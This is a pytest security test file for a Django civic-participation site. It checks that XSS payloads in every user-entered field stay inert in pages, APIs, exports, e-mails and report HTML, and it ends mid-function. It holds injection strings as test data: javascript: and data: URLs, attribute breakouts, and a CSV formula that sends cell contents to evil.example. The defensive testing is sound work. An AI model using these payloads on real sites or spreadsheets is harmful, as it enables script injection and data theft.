"""No text that a person types runs as script — anywhere (GitHub issue #7).

Every text field that residents, moderators or staff fill in holds each payload of
``tests.scenarios.PAYLOADS`` in turn (script tags, event handlers, ``javascript:`` links, SVG,
template syntax, a ``</script>`` breakout). For every page, API answer and file where a
field appears (the table ``WHERE``: which fields on which page, seen by whom):

* HTML: the field's escaped text is there, its raw text is not, and no element,
  handler or ``javascript:`` address made from a payload exists;
* JSON: served as JSON (never sniffed as HTML), the text comes back as plain data;
* CSV/XLSX: downloads, not pages; the text comes back as plain data.

Then the e-mails of every notification kind (immediate and digests, HTML and plain
text), the data export, the report HTML the PDF is made from, ``javascript:`` in the
URL fields, formulas in spreadsheets, and the JavaScript that builds the map popups.
The browser side is tests/e2e/test_xss_browser.py.

Set XSS_RECORD=1 to print, for every row, the fields found on it (to fill the table).
"""

import csv
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.html import escape
from openpyxl import load_workbook

from participation.notifications import delivery, digests
from participation.notifications.models import Delivery, Notification
from privacy.models import DataExport
from privacy.services import data_export_build
from tests.factories import SuperuserFactory, UserFactory
from tests.moderation.factories_moderation import moderator_of
from tests.scenarios import PAYLOADS, SNEAKY_URL, PayloadCity, city_where_every_text_holds

pytestmark = pytest.mark.django_db

RECORD = os.environ.get("XSS_RECORD") == "1"
PAYLOAD_IDS = list(PAYLOADS)

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class ElementsFromPayload(HTMLParser):
    """The elements, handlers and addresses in a page that a payload made (what a
    browser would build from the HTML, not what the text of the page says)."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") and "__xss" in value:
                self.found.append(f"<{tag} {name}=...> handler")
            if name in URL_ATTRIBUTES and re.sub(r"\s", "", value).lower().startswith(
                "javascript:"
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.found.append("<img src=x>")
        if tag == "svg" and "onload" in dict(attrs):
            self.found.append("<svg onload>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._in_script = False

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "__xss" in data:
            self.found.append(f"<script>{data.strip()[:60]}</script>")


def elements_from_payload(html: str) -> list[str]:
    parser = ElementsFromPayload()
    parser.feed(html)
    parser.close()
    return parser.found


# --- Who looks --------------------------------------------------------------------------


def viewers(world: PayloadCity) -> dict:
    """The people who look at the pages (made once per world)."""
    if "viewers" not in world.objects:
        council = UserFactory(display_name="Ratsmitglied")
        council.groups.add(Group.objects.get_or_create(name=settings.COUNCIL_GROUP_NAME)[0])
        world.objects["viewers"] = {
            "anonymous": None,
            "author": world.author,
            "commenter": world.commenter,
            "moderator": moderator_of(world.project, display_name="Moderation"),
            "council": council,
            "superuser": SuperuserFactory(display_name="Verwaltung"),
        }
    return world.objects["viewers"]


def client_of(world: PayloadCity, viewer: str) -> Client:
    """A client signed in as ``viewer`` (one per viewer and world)."""
    clients = world.objects.setdefault("clients", {})
    if viewer not in clients:
        clients[viewer] = Client()
        user = viewers(world)[viewer]
        if user is not None:
            clients[viewer].force_login(user)
    return clients[viewer]


# --- The table: where each field appears ------------------------------------------------


@dataclass(frozen=True)
class Where:
    """``url``, seen by ``viewer``, shows ``fields`` (tags of the payload city, separated by
    spaces) as text (HTML) or as data (json, csv, xlsx)."""

    name: str
    url: Callable[[PayloadCity], str]
    viewer: str
    fields: str
    kind: str = "html"


def r(name: str, query: str = "", **kwargs) -> Callable[[PayloadCity], str]:
    """reverse(name), keyword values and ``query`` ({placeholders}) from the world."""

    def build(world: PayloadCity) -> str:
        values = {key: value(world) if callable(value) else value for key, value in kwargs.items()}
        return reverse(name, kwargs=values) + query.format(**world.objects)

    return build


def english(url: Callable[[PayloadCity], str]) -> Callable[[PayloadCity], str]:
    """``url`` on the English site (/en/...)."""

    def build(world: PayloadCity) -> str:
        with translation.override("en"):
            return url(world)

    return build


def slug(name: str) -> Callable[[PayloadCity], str]:
    return lambda world: world.objects[name].slug


def pk(name: str) -> Callable[[PayloadCity], int]:
    return lambda world: world.objects[name].pk


def admin(model: str, obj: str | None = None) -> Callable[[PayloadCity], str]:
    """The admin's change list of ``model`` ("app.model"), or the change form of ``obj``."""
    app, name = model.split(".")
    if obj is None:
        return r(f"admin:{app}_{name}_changelist")
    return lambda world: reverse(f"admin:{app}_{name}_change", args=[world.objects[obj].pk])


def opendata(filename: str) -> Callable[[PayloadCity], str]:
    return lambda world: f"/offene-daten/{filename}"


PROJECT = {"project_slug": slug("project")}
IDEA = {**PROJECT, "pk": pk("idea")}
EXPORT = "ideas:export"

# The idea as residents and the city wrote it, and where it is.
IDEA_TEXT = "idea.title idea.text idea.place idea.official_response category.name district.name"
COMMENTS = "idea_comment.text reply.text commenter.display_name user.display_name"
HIDDEN = "hidden_comment.text decision.statement"
MEASURE_TEXT = (
    "measure.title measure.summary measure.description measure.partners measure.funding "
    "update.text update.reason milestone.title indicator.name indicator.unit "
    "indicator.description value.note unit.name"
)
STRATEGY = "core_area.title field.title bundle.title"
PROJECT_TEXT = (
    "project.title project.summary project.description project.image_alt ideas_phase.title "
    "ideas_phase.description voting_phase.title category.name"
)
NOTIFICATIONS = (
    "idea.title idea.text idea_comment.text reply.text commenter.display_name "
    "idea.official_response decision.statement hidden_comment.text project.title "
    "ideas_phase.title measure.title update.text milestone.title status_report.title "
    "status_report.summary"
)
REPORT = (
    "status_report.title status_report.summary status_report.paper_number "
    "status_report.paper_url measure.title update.text update.reason milestone.title "
    "indicator.name indicator.unit unit.name project.title district.name"
)

WHERE: list[Where] = [
    # --- public pages
    Where("home", r("pages:home"), "anonymous", ""),
    Where("imprint (text staff edit)", r("pages:impressum"), "anonymous", "page.title page.body"),
    Where(
        "project list",
        r("projects:project-list"),
        "anonymous",
        "project.title project.summary project.image_alt ideas_phase.title district.name",
    ),
    Where(
        "project page",
        r("projects:project-detail", slug=slug("project")),
        "anonymous",
        f"{PROJECT_TEXT} district.name measure.title unit.name unit.short "
        "project_comment.text commenter.display_name",
    ),
    Where(
        "idea list (beside the map)",
        r("ideas:idea-list", **PROJECT),
        "anonymous",
        f"{IDEA_TEXT} user.display_name project.title project.summary",
    ),
    Where(
        "idea page",
        r("ideas:idea-detail", **IDEA),
        "anonymous",
        f"{IDEA_TEXT} idea.image_alt {COMMENTS} measure.title project.title",
    ),
    Where(
        "measure list",
        r("measures:measure-list"),
        "anonymous",
        f"measure.title unit.name unit.short {STRATEGY}",
    ),
    Where(
        "measure page",
        r("measures:measure-detail", slug=slug("measure")),
        "anonymous",
        f"{MEASURE_TEXT} unit.short {STRATEGY} measure_comment.text commenter.display_name "
        "idea.title project.title district.name",
    ),
    Where(
        "bundle page",
        r("measures:bundle-detail", slug=slug("bundle")),
        "anonymous",
        f"bundle.summary {STRATEGY} measure.title unit.name unit.short",
    ),
    Where(
        "strategy overview",
        r("measures:overview"),
        "anonymous",
        f"{STRATEGY} core_area.summary field.summary bundle.summary",
    ),
    Where(
        "report list",
        r("reports:report-list"),
        "anonymous",
        "status_report.title status_report.paper_number",
    ),
    Where(
        "report page",
        r("reports:report-detail", pk=pk("status_report")),
        "anonymous",
        f"{REPORT} {STRATEGY}",
    ),
    Where(
        "report page (English rendition)",
        english(r("reports:report-detail", pk=pk("status_report"))),
        "anonymous",
        f"{REPORT} {STRATEGY}",
    ),
    # --- the author's pages
    Where(
        "idea page (author)",
        r("ideas:idea-detail", **IDEA),
        "author",
        f"{IDEA_TEXT} idea.image_alt {COMMENTS} {HIDDEN}",
    ),
    Where(
        "idea form",
        r("ideas:idea-update", **IDEA),
        "author",
        "idea.title idea.text idea.place idea.image_alt category.name district.name "
        "project.title user.display_name",
    ),
    Where(
        "reply form",
        r("ideas:comment-reply", pk=pk("comment")),
        "author",
        "idea_comment.text commenter.display_name idea.title user.display_name",
    ),
    Where(
        "review request form",
        r("moderation:review-request", pk=pk("decision")),
        "author",
        f"{HIDDEN} idea.title user.display_name",
    ),
    Where(
        "notification centre",
        r("notifications:list"),
        "author",
        f"{NOTIFICATIONS} user.display_name",
    ),
    Where(
        "notification settings",
        r("notifications:preferences"),
        "author",
        "user.display_name",
    ),
    Where(
        "follows page",
        r("notifications:follows"),
        "author",
        "measure.title bundle.title core_area.title project.title idea.title district.name "
        "user.display_name",
    ),
    Where("profile", r("users:profile"), "author", "user.display_name district.name"),
    Where("own data (data export page)", r("privacy:data"), "author", "user.display_name"),
    # --- a commenter's pages
    Where(
        "comment form",
        r("ideas:comment-update", pk=pk("comment")),
        "commenter",
        "idea_comment.text commenter.display_name idea.title",
    ),
    Where(
        "comment delete page",
        r("ideas:comment-delete", pk=pk("comment")),
        "commenter",
        "idea_comment.text commenter.display_name idea.title",
    ),
    Where(
        "report (flag) form",
        r("moderation:flag", kind="comment", pk=pk("reply")),
        "commenter",
        "reply.text user.display_name idea.title",
    ),
    # --- moderation
    Where(
        "idea page (moderator)",
        r("ideas:idea-detail", **IDEA),
        "moderator",
        f"{IDEA_TEXT} idea.image_alt {COMMENTS} {HIDDEN}",
    ),
    Where(
        "official response form",
        r("ideas:idea-respond", **IDEA),
        "moderator",
        "idea.title idea.text idea.official_response measure.title project.title",
    ),
    Where(
        "moderation queue",
        r("moderation:queue", **PROJECT),
        "moderator",
        f"idea_comment.text commenter.display_name comment_report.text {HIDDEN} review.text "
        "idea.title user.display_name project.title",
    ),
    Where(
        "moderation of a comment",
        r("moderation:item", **PROJECT, kind="comment", pk=pk("comment")),
        "moderator",
        "idea_comment.text commenter.display_name comment_report.text idea.title",
    ),
    Where(
        "moderation of an idea",
        r("moderation:item", **PROJECT, kind="idea", pk=pk("idea")),
        "moderator",
        "idea.title idea.text user.display_name project.title",
    ),
    Where(
        "moderation of a hidden comment",
        r("moderation:item", **PROJECT, kind="comment", pk=pk("hidden_comment")),
        "moderator",
        f"{HIDDEN} user.display_name idea.title",
    ),
    Where(
        "review decision form",
        r("moderation:review", **PROJECT, pk=pk("decision")),
        "moderator",
        f"{HIDDEN} review.text user.display_name idea.title",
    ),
    Where(
        "moderation queue of comments on measures",
        r("moderation:measures-queue"),
        "superuser",
        "measure_comment.text measure_report.text commenter.display_name measure.title",
    ),
    # --- council and staff
    Where(
        "council dashboard",
        r("reports:dashboard"),
        "council",
        f"{STRATEGY} measure.title update.text update.reason milestone.title unit.name "
        "project.title district.name status_report.title",
    ),
    Where(
        "draft report page",
        r("reports:report-detail", pk=pk("draft_report")),
        "superuser",
        "draft_report.title",
    ),
    Where(
        "status report form",
        r("reports:report-edit", pk=pk("draft_report")),
        "superuser",
        "draft_report.title draft_report.summary draft_report.paper_number draft_report.paper_url",
    ),
    # --- the admin: every change list, and the change form of the world's object
    *[
        Where(f"admin {model} {obj or 'list'}", admin(model, obj), "superuser", fields)
        for model, obj, fields in [
            ("users.user", None, "user.display_name commenter.display_name"),
            ("users.user", "author", "user.display_name district.name"),
            ("geo.district", None, "district.name"),
            ("geo.district", "district", "district.name"),
            ("pages.page", None, "page.title"),
            ("pages.page", "imprint", "page.title page.body"),
            ("measures.measure", None, "measure.title unit.name unit.short"),
            (
                "measures.measure",
                "measure",
                "measure.title measure.summary measure.description measure.partners "
                "measure.funding update.text milestone.title indicator.name indicator.unit "
                "bundle.title unit.name unit.short",
            ),
            ("measures.progressupdate", None, "measure.title"),
            ("measures.progressupdate", "update", "update.text update.reason measure.title"),
            ("measures.milestone", None, "milestone.title measure.title"),
            ("measures.milestone", "milestone", "milestone.title measure.title"),
            ("measures.indicator", None, "indicator.name indicator.unit measure.title"),
            (
                "measures.indicator",
                "indicator",
                "indicator.name indicator.unit indicator.description value.note measure.title",
            ),
            ("measures.organisationalunit", None, "unit.name unit.short"),
            ("measures.organisationalunit", "unit", "unit.name unit.short"),
            ("measures.corearea", None, "core_area.title"),
            ("measures.corearea", "core_area", "core_area.title core_area.summary"),
            ("measures.fieldofaction", None, "field.title"),
            ("measures.fieldofaction", "field", "field.title field.summary"),
            ("measures.measurebundle", None, STRATEGY),
            ("measures.measurebundle", "bundle", f"{STRATEGY} bundle.summary"),
            (
                "projects.project",
                None,
                "project.title ideas_phase.title district.name unit.name unit.short",
            ),
            (
                "projects.project",
                "project",
                f"{PROJECT_TEXT} district.name measure.title unit.name",
            ),
            ("ideas.idea", None, "idea.title user.display_name district.name"),
            (
                "ideas.idea",
                "idea",
                f"{IDEA_TEXT} idea.image_alt user.display_name measure.title project.title",
            ),
            ("moderation.flag", None, "idea_comment.text project.title"),
            ("moderation.flag", "report", "comment_report.text idea_comment.text"),
            ("moderation.moderationdecision", None, "project.title"),
            ("moderation.moderationdecision", "decision", "decision.statement review.text"),
            ("notifications.notification", None, "user.display_name"),
            ("notifications.notification", "notification", "user.display_name"),
            ("reports.statusreport", None, "status_report.title draft_report.title"),
            (
                "reports.statusreport",
                "draft_report",
                "draft_report.title draft_report.summary draft_report.paper_number "
                "draft_report.paper_url",
            ),
        ]
    ],
    # --- the API: JSON (data), and its browsable HTML
    Where(
        "API ideas",
        r("ideas-api:idea-list", "?project={project.slug}"),
        "anonymous",
        f"{IDEA_TEXT} idea.image_alt user.display_name",
        "json",
    ),
    Where(
        "API ideas as GeoJSON (the map's data)",
        r("ideas-api:idea-list", "?project={project.slug}&format=geojson"),
        "anonymous",
        "idea.title category.name district.name",
        "json",
    ),
    Where(
        "API idea",
        r("ideas-api:idea-detail", pk=pk("idea")),
        "anonymous",
        f"{IDEA_TEXT} idea.image_alt user.display_name",
        "json",
    ),
    Where(
        "API comments on the idea",
        r("ideas-api:comment-list", "?idea={idea.pk}"),
        "anonymous",
        COMMENTS,
        "json",
    ),
    Where(
        "API comments on the project",
        r("ideas-api:comment-list", "?project={project.slug}"),
        "anonymous",
        "project_comment.text commenter.display_name",
        "json",
    ),
    Where(
        "API comments on the measure",
        r("ideas-api:comment-list", "?measure={measure.slug}"),
        "anonymous",
        "measure_comment.text commenter.display_name",
        "json",
    ),
    Where(
        "API measures",
        r("measures-api:measure-list"),
        "anonymous",
        "measure.title measure.summary measure.funding unit.name",
        "json",
    ),
    Where(
        "API measure",
        r("measures-api:measure-detail", slug=slug("measure")),
        "anonymous",
        MEASURE_TEXT,
        "json",
    ),
    Where(
        "API bundles",
        r("measures-api:bundle-list"),
        "anonymous",
        "bundle.title bundle.summary",
        "json",
    ),
    Where(
        "API core areas",
        r("measures-api:core-area-list"),
        "anonymous",
        "core_area.title core_area.summary bundle.title",
        "json",
    ),
    Where(
        "API fields of action",
        r("measures-api:field-list"),
        "anonymous",
        "field.title field.summary bundle.title",
        "json",
    ),
    Where(
        "API projects",
        r("projects-api:project-list"),
        "anonymous",
        f"{PROJECT_TEXT} measure.title unit.name",
        "json",
    ),
    Where(
        "API project",
        r("projects-api:project-detail", slug=slug("project")),
        "anonymous",
        f"{PROJECT_TEXT} measure.title unit.name",
        "json",
    ),
    Where("API districts", r("geo-api:district-list"), "anonymous", "district.name", "json"),
    Where(
        "API status reports",
        r("status-report-list"),
        "anonymous",
        "status_report.title status_report.summary status_report.paper_number",
        "json",
    ),
    Where(
        "API status report",
        r("status-report-detail", pk=pk("status_report")),
        "anonymous",
        "status_report.title status_report.summary status_report.paper_number",
        "json",
    ),
    Where(
        "API notifications",
        r("notifications-api:notification-list"),
        "author",
        NOTIFICATIONS,
        "json",
    ),
    Where(
        "API follows",
        r("notifications-api:follow-list"),
        "author",
        "measure.title bundle.title core_area.title project.title idea.title district.name",
        "json",
    ),
    Where(
        "API reports (flags) for moderators",
        r("moderation-api:flag-list", "?project={project.slug}"),
        "moderator",
        "comment_report.text",
        "json",
    ),
    Where(
        "Ortsteile GeoJSON of the idea map",
        r("ideas:districts-geojson"),
        "anonymous",
        "district.name",
        "json",
    ),
    Where(
        "API comments, browsable HTML",
        r("ideas-api:comment-list", "?idea={idea.pk}&format=api"),
        "anonymous",
        COMMENTS,
    ),
    Where(
        "API measure, browsable HTML",
        r("measures-api:measure-detail", "?format=api", slug=slug("measure")),
        "anonymous",
        MEASURE_TEXT,
    ),
    # --- open data
    *[
        Where(f"open data {filename}", opendata(filename), "anonymous", fields, kind)
        for filename, kind, fields in [
            ("massnahmen.csv", "csv", f"measure.title measure.summary unit.name {STRATEGY}"),
            ("massnahmen.json", "json", f"measure.title measure.summary unit.name {STRATEGY}"),
            ("sachstaende.csv", "csv", "measure.title update.text update.reason"),
            (
                "indikatoren.csv",
                "csv",
                "measure.title indicator.name indicator.unit value.note",
            ),
            (
                "ideen.csv",
                "csv",
                "idea.title idea.text project.title category.name district.name",
            ),
            (
                "ideen.geojson",
                "json",
                "idea.title idea.text project.title category.name district.name",
            ),
            ("ortsteile.geojson", "json", "district.name"),
            ("beteiligung-projekte.csv", "csv", "project.title"),
            ("beteiligung-ortsteile.csv", "csv", "district.name"),
        ]
    ],
    # --- the staff's exports (with the participants' names: staff see those)
    *[
        Where(
            f"staff export {what}.{fmt}",
            r(EXPORT, **PROJECT, what=what, fmt=fmt),
            "superuser",
            fields + (" project.title" if fmt == "xlsx" else ""),  # the privacy sheet
            fmt,
        )
        for what, fields in [
            (
                "ideas",
                "idea.title idea.text idea.official_response category.name district.name "
                "user.display_name",
            ),
            ("comments", f"{COMMENTS} hidden_comment.text project_comment.text idea.title"),
            ("votes", "idea.title commenter.display_name"),
        ]
        for fmt in ("csv", "xlsx")
    ],
]


def fetch(where: Where, world: PayloadCity):
    response = client_of(world, where.viewer).get(where.url(world))
    assert response.status_code == 200, f"{where.name}: {response.status_code}"
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, content


def text_values(data) -> list[str]:
    """Every string in a JSON document."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for value in data.values() for s in text_values(value)]
    if isinstance(data, list):
        return [s for value in data for s in text_values(value)]
    return []


def shown_as_text(value: str, html: str) -> bool:
    """The value's escaped text is in ``html`` (the browsable API shows it as JSON)."""
    as_json = json.dumps(value, ensure_ascii=False)[1:-1]
    return escape(value) in html or escape(as_json) in html


def found_fields(where: Where, world: PayloadCity, response, content: bytes) -> set[str]:
    """The fields whose text (escaped in HTML, as data elsewhere) is in the answer."""
    if where.kind == "html":
        html = content.decode()
        return {tag for tag, value in world.values.items() if shown_as_text(value, html)}
    if where.kind == "json":
        strings = text_values(json.loads(content))
    elif where.kind == "csv":
        strings = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
    else:
        book = load_workbook(io.BytesIO(content))
        strings = [c for s in book for row in s.iter_rows(values_only=True) for c in row]
    strings = [s for s in strings if isinstance(s, str)]
    return {tag for tag, value in world.values.items() if any(value in s for s in strings)}


def markup_problems(html: str, world: PayloadCity) -> list[str]:
    """What in ``html`` came from a payload as markup."""
    problems = elements_from_payload(html)
    problems += [
        f"{tag} unescaped"
        for tag, value in world.values.items()
        if re.search(r"[<>\"']", value) and value in html
    ]
    return problems


def download_problems(where: Where, response) -> list[str]:
    content_type = response["Content-Type"]
    problems = []
    expected = {"json": "json", "csv": "text/csv", "xlsx": "spreadsheetml"}[where.kind]
    if expected not in content_type or "html" in content_type:
        problems.append(f"served as {content_type}")
    if response.get("X-Content-Type-Options") != "nosniff":
        problems.append("may be sniffed (no X-Content-Type-Options: nosniff)")
    if where.kind in ("csv", "xlsx") and "attachment" not in response.get(
        "Content-Disposition", ""
    ):
        problems.append("not a download")
    return problems


@pytest.mark.parametrize("payload", PAYLOAD_IDS)
def test_every_field_is_inert_on_every_page_and_in_every_answer(payload):
    world = city_where_every_text_holds(PAYLOADS[payload])
    problems = []
    for where in WHERE:
        response, content = fetch(where, world)
        found = found_fields(where, world, response, content)
        if RECORD:
            print(f"\nRECORD {where.name} ({where.kind}, {where.viewer}): {sorted(found)}")
        if where.kind == "html":
            problems += [f"{where.name}: {p}" for p in markup_problems(content.decode(), world)]
        else:
            problems += [f"{where.name}: {p}" for p in download_problems(where, response)]
        problems += [
            f"{where.name} × {tag}: not shown as text"
            for tag in where.fields.split()
            if tag not in found
        ]
    assert not problems, "\n".join(problems)


def test_every_field_of_the_world_is_looked_for_somewhere():
    world = city_where_every_text_holds("x")
    looked_for = {tag for where in WHERE for tag in where.fields.split()}
    assert looked_for == set(world.values)


@pytest.mark.parametrize(
    "html",
    [f"<p>{payload}</p>" for name, payload in PAYLOADS.items() if "<" in payload]
    + [
        f'<p><a href="{PAYLOADS["javascript-url"]}">x</a></p>',
        f'<a href="{SNEAKY_URL}">x</a>',
    ],
)
def test_the_checker_finds_markup_made_from_a_payload(html):
    """The check above is worth something: unescaped, each payload is found."""
    assert elements_from_payload(html)


# --- E-mails ----------------------------------------------------------------------------

# What each notification e-mail says (its subject and text), by kind.
EMAILS = {
    "progress_update": "measure.title update.text",
    "milestone_reached": "milestone.title measure.title",
    "phase_started": "project.title ideas_phase.title",
    "phase_ending": "project.title ideas_phase.title",
    "new_idea": "project.title idea.title idea.text",
    "comment_on_my_idea": "commenter.display_name idea.title idea_comment.text",
    "reply_to_my_comment": "commenter.display_name reply.text",
    "idea_response": "idea.title idea.official_response",
    "content_hidden": "hidden_comment.text decision.statement",
    "review_decided": "decision.statement",
    "new_report": "project.title",
    "measure_stale": "measure.title",
    "milestone_due": "milestone.title",
    "status_report_published": "status_report.title status_report.summary",
}
ENTITIES = re.compile(r"&(?:lt|gt|amp|quot|#x27|#39);")


def mail_problems(message, world: PayloadCity, tags: list[str]) -> list[str]:
    """HTML part: nothing made from a payload, the text escaped. Plain-text part: the
    text as written (not HTML, not escaped), the subject one line."""
    problems = []
    html = next(content for content, mimetype in message.alternatives if mimetype == "text/html")
    problems += [f"HTML part: {p}" for p in markup_problems(html, world)]
    problems += [
        f"{tag} missing in the HTML part" for tag in tags if escape(world.values[tag]) not in html
    ]
    if message.content_subtype != "plain":
        problems.append(f"the body is {message.content_subtype}, not plain text")
    text = message.body
    problems += [f"{tag} missing in the text part" for tag in tags if world.values[tag] not in text]
    rest = text
    for value in world.values.values():
        rest = rest.replace(value, "")
    if ENTITIES.search(rest) or re.search(r"</?[a-z][^>]*>", rest):
        problems.append("the text part holds HTML or entities")
    if "\n" in message.subject or "\r" in message.subject:
        problems.append("the subject has a line break")
    return problems


@pytest.mark.parametrize("payload", PAYLOAD_IDS)
def test_every_notification_email_shows_the_payload_as_text(payload):
    world = city_where_every_text_holds(PAYLOADS[payload])
    rows = {n.pk: n for n in Notification.objects.filter(recipient=world.author)}
    assert {n.kind for n in rows.values()} == set(EMAILS), "one notification of every kind"
    Notification.objects.filter(pk__in=rows).update(delivery=Delivery.IMMEDIATE)
    mail.outbox.clear()

    outcome = delivery.send_pending(list(rows))

    assert outcome.mails == len(EMAILS)
    problems = []
    for message in mail.outbox:
        pk = int(re.search(r"notification-(\d+)@", message.extra_headers["Message-ID"])[1])
        kind = rows[pk].kind
        problems += [f"{kind}: {p}" for p in mail_problems(message, world, EMAILS[kind].split())]
    assert not problems, "\n".join(problems)


# The digest uses the same text as the e-mails above, grouped: three payloads suffice.
@pytest.mark.parametrize("payload", ["script-breakout", "img-onerror", "template"])
def test_the_digest_shows_every_kind_as_text(payload):
    world = city_where_every_text_holds(PAYLOADS[payload])
    Notification.objects.filter(recipient=world.author).update(delivery=Delivery.DAILY)
    mail.outbox.clear()

    digests.send_digests(frequency=Delivery.DAILY)

    [message] = mail.outbox
    tags = sorted({tag for fields in EMAILS.values() for tag in fields.split()})
    assert not mail_problems(message, world, tags)


def test_a_real_comment_reaches_the_authors_mailbox_as_text(django_capture_on_commit_callbacks):
    """End to end: a resident with a payload as name comments through the service;
    the idea's author gets the e-mail at once (after commit, through the task)."""
    from participation.ideas.services.comments import comment_create

    world = city_where_every_text_holds(PAYLOADS["img-onerror"])
    mail.outbox.clear()
    text = "neu " + PAYLOADS["script-breakout"]
    world.values["new.text"] = text

    with django_capture_on_commit_callbacks(execute=True):
        comment_create(author=world.commenter, text=text, idea=world.idea)

    [message] = [m for m in mail.outbox if m.to == [world.author.email]]
    assert not mail_problems(message, world, ["commenter.display_name", "idea.title", "new.text"])


# --- The data export and the report's PDF -------------------------------------------------


def test_the_data_export_holds_the_text_as_data_and_is_only_a_download(client):
    world = city_where_every_text_holds(PAYLOADS["script-breakout"])
    export = DataExport.objects.create(user=world.author)
    mail.outbox.clear()

    assert data_export_build(export.pk)

    client.force_login(world.author)
    response = client.get(reverse("privacy:data-export-download", args=[export.pk]))
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith("attachment;")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    strings = text_values(json.loads(archive.read("daten.json")))
    for tag in ("user.display_name", "idea.title", "idea.text", "reply.text", "decision.statement"):
        assert world.values[tag] in strings, tag
    [ready] = mail.outbox
    assert ready.content_subtype == "plain" and not ready.alternatives
    assert world.values["user.display_name"] in ready.body


def test_the_html_the_pdf_is_made_from_has_the_text_escaped(monkeypatch):
    """The task's own path: snapshot, body, document for WeasyPrint (captured here)."""
    import weasyprint

    from reports.models import StatusReport
    from reports.services import report_generate

    documents = []

    class FakeHTML:
        def __init__(self, *, string, base_url):
            documents.append(string)

        def write_pdf(self, **kwargs):
            return b"%PDF-1.7\n%%EOF\n"

    monkeypatch.setattr(weasyprint, "HTML", FakeHTML)
    world = city_where_every_text_holds(PAYLOADS["script-breakout"])
    report = world.draft_report
    StatusReport.objects.filter(pk=report.pk).update(state=StatusReport.State.QUEUED)

    assert report_generate(report.pk)

    german, english = documents  # one PDF per language
    assert '<html lang="de">' in german and '<html lang="en">' in english
    report.refresh_from_db()
    for html in (german, english, report.html, report.html_en):
        assert not markup_problems(html, world)
        for tag in ("draft_report.title", "draft_report.summary", "draft_report.paper_url"):
            assert escape(world.values[tag]) in html, tag
    for document in documents:
        assert f"<title>{escape(world.values['draft_report.title'])}</title>" in document


# --- URL fields ---------------------------------------------------------------------------

NOT_WEB_ADDRESSES = [
    PAYLOADS["javascript-url"],
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:msgbox(1)",
]


@pytest.mark.parametrize("address", NOT_WEB_ADDRESSES)
@pytest.mark.parametrize("field", ["council_paper_url", "oparl_paper_url"])
def test_url_fields_refuse_anything_but_web_addresses(client, field, address):
    from reports.models import StatusReport

    world = city_where_every_text_holds("x")
    report = world.draft_report
    client.force_login(viewers(world)["superuser"])
    data = {
        "title": "Bericht",
        "period_start": "2026-01-01",
        "period_end": "2026-06-30",
        "as_of": "2026-06-30",
        field: address,
    }
    page = client.post(reverse("reports:report-edit", args=[report.pk]), data)
    admin_page = client.post(reverse("admin:reports_statusreport_change", args=[report.pk]), data)

    assert page.status_code == 200 and field in page.context["form"].errors
    assert admin_page.status_code == 200 and field in admin_page.context["adminform"].form.errors
    assert getattr(StatusReport.objects.get(pk=report.pk), field) != address


@pytest.mark.parametrize("address", NOT_WEB_ADDRESSES)
def test_the_report_service_refuses_them_too(address):
    from django.core.exceptions import ValidationError

    from reports.services import report_save

    world = city_where_every_text_holds("x")
    with pytest.raises(ValidationError):
        report_save(
            actor=viewers(world)["superuser"],
            report=world.draft_report,
            data={"council_paper_url": address},
        )


def test_a_link_in_text_cannot_leave_its_attribute(client):
    """urlize turns addresses in texts into links: a quote ends the link, and the rest is
    text."""
    world = city_where_every_text_holds("x")
    sneaky = 'https://example.org/?q="onmouseover="window.__xss=1"'
    world.idea.text = f"Siehe {sneaky} und www.example.org/'onfocus='window.__xss=1'"
    world.idea.save()

    html = client.get(world.idea.get_absolute_url()).content.decode()

    assert not elements_from_payload(html)
    assert '<a href="https://example.org/?q=" rel="nofollow">' in html
    assert "&quot;onmouseover=&quot;window.__xss=1&quot;" in html
    assert "&#x27;onfocus=&#x27;window.__xss=1&#x27;" in html


def test_a_javascript_address_in_next_never_becomes_a_link():
    """Pages that link back to ``?next=`` only take addresses of this site."""
    world = city_where_every_text_holds("x")
    query = "?next=" + PAYLOADS["javascript-url"]
    pages = [
        (
            "moderator",
            r("moderation:item", **PROJECT, kind="comment", pk=pk("comment")),
        ),
        ("commenter", r("moderation:flag", kind="comment", pk=pk("reply"))),
    ]
    for viewer, url in pages:
        html = client_of(world, viewer).get(url(world) + query).content.decode()
        assert not elements_from_payload(html), url(world)
        assert 'value="javascript:' not in html, url(world)


# --- Spreadsheets -------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klick")', "+1+1", "-1+1", "@SUM(1)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEETS = [w for w in WHERE if w.kind in ("csv", "xlsx")]


def formula_for(tag: str) -> str:
    """Every field starts like a formula (the four kinds in turn)."""
    return FORMULAS[sum(map(ord, tag)) % len(FORMULAS)] + f" {tag}"


def test_no_spreadsheet_cell_can_run_as_a_formula():
    world = city_where_every_text_holds(formula_for)
    problems = []
    for where in SPREADSHEETS:
        response, content = fetch(where, world)
        if where.kind == "csv":
            rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
            problems += [
                f"{where.name}: {cell[:30]!r}"
                for row in rows
                for cell in row
                if cell.startswith(FORMULA_STARTS)
            ]
        else:
            book = zipfile.ZipFile(io.BytesIO(content))
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
